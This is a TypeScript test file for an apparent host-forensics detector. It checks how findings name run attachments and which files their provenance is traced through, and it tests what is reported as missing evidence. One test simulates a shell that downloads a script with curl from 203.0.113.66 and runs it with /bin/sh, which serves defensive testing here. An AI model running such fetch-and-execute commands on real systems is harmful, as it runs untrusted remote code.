import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { World } from '../../state/world.ts';
import { type ContentFacts, contentFacts } from '../content-facts.test-support.ts';
import { at, stepOf, taintOf } from '../mail-facts.test-support.ts';
import { Tunables } from '../tunables.ts';
import { changesOf } from './changes.ts';
import { HostLog, MINUTE } from './host-log.test-support.ts';
import { scanLog } from './stories.test-support.ts';
import { absences, findingOf } from './tell.ts';

/** A world in which these kinds of records were seen. */
const world = (...seen: readonly string[]): World =>
  ({
    anyMail: seen.includes('mail'),
    seen: (_: string, kind: string) => seen.includes(kind),
    identity: { loaded: { passwd: true } },
    network: { addressesOf: () => [] },
  }) as unknown as World;

const missing = (facts: ContentFacts, ...seen: readonly string[]): string => {
  const { found, told } = contentFacts(facts);
  absences(found, told, world(...seen));
  return told.story.missing.join('\n');
};

test('a person whose name nobody knows is named by number, and spoken of', () => {
  const { found, told } = contentFacts({ person: '' });
  assert.match(findingOf(found, told, 'low').story, /as uid 1003/);
  assert.match(findingOf(found, told, 'low').next[0] ?? '', /^Ask uid 1003 /);
  assert.match(missing({ person: '' }, 'mail'), /No delivery to this person/);
  assert.match(missing({}, 'mail'), /No delivery to clerk/);
  const changes = (facts: ContentFacts): string => {
    const { found: one, told: its } = contentFacts(facts);
    return changesOf(one, its, world('mail'), new Tunables(new Map()))
      .map(each => each.what)
      .join('\n');
  };
  assert.match(changes({ person: '' }), /delivered to this person before the run/);
  assert.match(changes({}), /delivered to clerk before the run/);
});

test('who wrote the file is a guess only where writes are not recorded', () => {
  assert.match(missing({}, 'file:appeared'), /records that files appear/);
  assert.match(missing({}), /does not record file creation/);
  for (const seen of [['file:written'], ['file:written', 'file:appeared']])
    assert.doesNotMatch(missing({}, ...seen), /records that files appear|does not record file creation/);
  assert.match(missing({ basis: 'place' }, 'file:written'), /there before the evidence begins/);
});

test('an empty list of places is said to be empty', () => {
  const said = (places: readonly string[]) => {
    const { found, told } = contentFacts({});
    const tunables = new Tunables(new Map([['AttachmentStoragePaths', places]]));
    return changesOf(found, told, world(), tunables).filter(each => each.why === 'the list is empty');
  };
  assert.deepEqual(
    said([]).map(each => each.weight),
    [1],
  );
  assert.deepEqual(said(['/srv/mail']), []);
});

test('of what a document had its viewer fetch and run it is the document that came, under its last name', () => {
  const [DOC, TOOL] = ['/home/clerk/offer.odt', '/tmp/tool'];
  /** The file of the title, where steps led from the message to what is run. */
  const named = (
    steps: readonly (readonly [kind: string, object: string])[],
    how = 'spawned-by-viewer',
    after = -1,
  ) => {
    const { found, told } = contentFacts({ path: TOOL });
    const main = told.main;
    let taint = taintOf({}, { kind: steps[0]?.[0] ?? '', object: steps[0]?.[1] ?? '' });
    for (const [kind, object] of steps.slice(1)) taint = { ...taint, previous: taint, step: stepOf({ kind, object }) };
    const opened = { ...main, how: how as typeof main.how, time: at(main.time + after) };
    return findingOf({ ...found, runs: [main, opened] }, { ...told, taint }, 'high').title;
  };
  const came = ['file.created', DOC] as const;
  const fetched = [
    ['process.started', '/usr/bin/curl'],
    ['file.created', TOOL],
  ] as const;
  assert.equal(named([came, ...fetched]), `Attachment run: ${DOC}`, 'not what was made later');
  assert.equal(named([came, ...fetched], 'spawned-by-viewer', 0), `Attachment run: ${DOC}`, 'in the same moment');
  assert.equal(named([came, ...fetched], 'spawned-by-viewer', 1), `Attachment run: ${TOOL}`, 'it was opened later');
  assert.equal(named([came, ...fetched], 'binary'), `Attachment run: ${TOOL}`, 'no viewer');
  assert.equal(named([['file.opened', DOC], fetched[0]]), `Attachment run: ${TOOL}`, 'what was made is not known');
  const to = (kind: string, from: string) => [kind, `${from} to /home/clerk/a.odt`] as const;
  assert.equal(named([came, to('file.renamed', DOC), ...fetched]), 'Attachment run: /home/clerk/a.odt');
  assert.equal(named([came, to('file.renamed', '/home/clerk/b.odt')]), `Attachment run: ${DOC}`, 'another file');
  assert.equal(named([came, to('file.linked', DOC)]), `Attachment run: ${DOC}`, 'it is where it was');
});

test('what came out of no mail is no story of mail: a script that a tool fetched', async () => {
  const fetched = new HostLog();
  fetched.deliver();
  const shell = fetched.shell('clerk');
  shell.run('/usr/bin/curl -o get.sh http://203.0.113.66/get.sh').connect('203.0.113.66', 80).write('get.sh');
  fetched.wait(MINUTE);
  shell.run('/bin/sh get.sh').read('get.sh');
  assert.deepEqual(
    (await scanLog(fetched)).filter(each => each.analytic === 'AN0656'),
    [],
  );
});
